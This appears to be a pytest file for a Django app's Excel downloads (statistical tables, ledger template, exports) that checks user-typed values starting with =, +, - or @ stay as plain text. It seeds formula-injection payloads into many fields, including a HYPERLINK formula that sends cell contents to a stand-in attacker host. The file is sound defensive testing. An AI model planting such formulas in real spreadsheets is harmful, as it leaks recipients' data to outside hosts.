"""Every spreadsheet the app offers stores what users typed as text: names, titles and
notes that begin with =, +, - or @ never become formulas (a cadre renamed
``=HYPERLINK("http://evil.example/?"&A1,"x")`` must not turn into a live link in a
statistical table, the ledger template or an export).

Each .xlsx is downloaded as a user gets it and opened with openpyxl: no cell is a
formula, and every payload is there as the text that was typed.
"""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from activities.models import Activity, Attendance
from cadres.models import Hardship, LivingSituation, VisitOccasion
from ledger.columns import LEDGER_COLUMNS
from ledger.workbooks import write_cell
from reminders.models import Holiday
from reports.models import YearTheme
from reports.statistics import STANDARD_TABLES
from tests.factories import (
    ActivityFactory,
    AttendanceFactory,
    BranchRoleFactory,
    CadreFactory,
    FamilyContactFactory,
    PartyBranchFactory,
    UnitFactory,
    UserFactory,
    VisitFactory,
)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SHORT_LINK = '=HYPERLINK("//e.x","x")'  # for the fields of 30 characters
PAYLOADS = [LINK, "+1+1", "-1+1", "@SUM(A1)"]


@pytest.fixture
def world(bureau):
    """Payloads in every text field that reaches a download, in the current year."""
    today = timezone.localdate()
    YearTheme.objects.create(year=today.year, theme="=1+1 银龄")
    holiday = Holiday.objects.order_by("id").first()
    holiday.name = SHORT_LINK
    holiday.save()
    occasion = holiday.occasion
    occasion.name = "@SUM(A1) 慰问"
    occasion.save()
    routine = VisitOccasion.objects.get(code="routine")
    routine.name = "-1+1 走访"
    routine.save()
    visitor = UserFactory(unit=bureau, role=User.Role.BUREAU_STAFF, full_name="+1+1 张")
    cadres = []
    for index, payload in enumerate(PAYLOADS):
        unit = UnitFactory(name=payload, parent=bureau)
        text = payload
        cadre = CadreFactory(
            name=payload,
            unit=unit,
            birth_date=datetime.date(1940 + index, 1, 1),
            former_employer=text,
            former_post=text,
            phone=text[:30],
            address=text,
            residential_community=text,
            health_notes=text,
            hardship=Hardship.DIFFICULT,
            hardship_notes=text,
            living_situation=LivingSituation.ALONE,
            hobbies=text,
            learning_activities=text,
            current_needs=text,
            notes=text,
            transferred_to=text,
            liaison=visitor,
        )
        cadres.append(cadre)
        FamilyContactFactory(cadre=cadre, name=payload, phone="+1+1", is_emergency_contact=True)
        branch = PartyBranchFactory(unit=unit, name=f"{payload} 支部")
        BranchRoleFactory(branch=branch, cadre=cadre, role="secretary")
        visit = VisitFactory(
            cadre=cadre,
            occasion=occasion if index % 2 else routine,
            visited_on=today,
            condolence_money=Decimal(100),
            leaders=payload,
            gifts=payload,
            notes=payload,
        )
        visit.visitors.add(visitor)
        activity = ActivityFactory(
            unit=unit,
            title=payload,
            place=payload,
            kind=Activity.Kind.VOLUNTEER,
            starts_at=timezone.now(),
        )
        AttendanceFactory(
            activity=activity,
            cadre=cadre,
            status=Attendance.Status.ATTENDED,
            volunteer_hours=2,
        )
    return cadres


@pytest.fixture
def bureau_staff(bureau):
    return UserFactory(unit=bureau, role=User.Role.BUREAU_STAFF)


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_only(content: bytes, expected: list[str]) -> None:
    every = cells(content)
    formulas = [cell.coordinate for cell in every if cell.data_type == "f"]
    assert formulas == []
    texts = {cell.value for cell in every if isinstance(cell.value, str)}
    for payload in expected:
        assert any(payload in text for text in texts), payload


def body(response) -> bytes:
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("slug", [table.slug for table in STANDARD_TABLES])
def test_statistical_tables_hold_no_formulas(client, world, bureau_staff, slug):
    client.force_login(bureau_staff)
    response = client.get(reverse("reports:table", args=[slug]), {"format": "xlsx"})
    content = body(response)
    expected = {
        "age-bands": PAYLOADS,
        "retirement-kind": PAYLOADS,
        "party-members": PAYLOADS,
        "living-situation": PAYLOADS,
        "hardship": PAYLOADS,
        "visits": [*PAYLOADS, "@SUM(A1) 慰问", "-1+1 走访"],
        "condolence-money": [*PAYLOADS, SHORT_LINK],
        "activities": [],
        "volunteer-hours": PAYLOADS,
        "branch-ages": [f"{payload} 支部" for payload in PAYLOADS] + PAYLOADS,
        "communities": PAYLOADS,
    }[slug]
    assert_text_only(content, ["=1+1 银龄", *expected])


def test_ledger_template_holds_no_formulas(client, world, bureau_staff):
    client.force_login(bureau_staff)
    content = body(client.get(reverse("ledger:template")))
    book = openpyxl.load_workbook(io.BytesIO(content))
    options = [cell.value for row in book["选项"].iter_rows() for cell in row if cell.value]
    for payload in PAYLOADS:
        assert payload in options  # a unit
        assert f"{payload} 支部" in options  # a branch
    assert_text_only(content, PAYLOADS)


def test_exports_hold_no_formulas(client, world, bureau_staff):
    """The XlsxWriter exports write text with write_string: prove it stays text."""
    client.force_login(bureau_staff)
    today = timezone.localdate().isoformat()
    columns = [column.key for column in LEDGER_COLUMNS]
    ledger = body(client.post(reverse("reports:export_cadres"), {"columns": columns}))
    assert_text_only(ledger, [*PAYLOADS, "+1+1 张"])
    visits = body(
        client.post(reverse("reports:export_visits"), {"date_from": today, "date_to": today})
    )
    assert_text_only(visits, [*PAYLOADS, "+1+1 张", "@SUM(A1) 慰问", "-1+1 走访"])
    attendance = body(
        client.post(reverse("reports:export_attendance"), {"date_from": today, "date_to": today})
    )
    assert_text_only(attendance, PAYLOADS)


def test_the_cell_helper_keeps_text_and_drops_control_characters():
    sheet = openpyxl.Workbook().active
    assert write_cell(sheet, row=1, column=1, value=LINK).data_type == "s"
    assert write_cell(sheet, row=1, column=2, value="张\x00三\x07").value == "张三"
    assert write_cell(sheet, row=1, column=3, value=7).data_type == "n"
    assert write_cell(sheet, row=1, column=4, value=datetime.date(2026, 1, 1)).is_date
    out = io.BytesIO()
    sheet.parent.save(out)
    again = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert (again["A1"].value, again["A1"].data_type) == (LINK, "s")
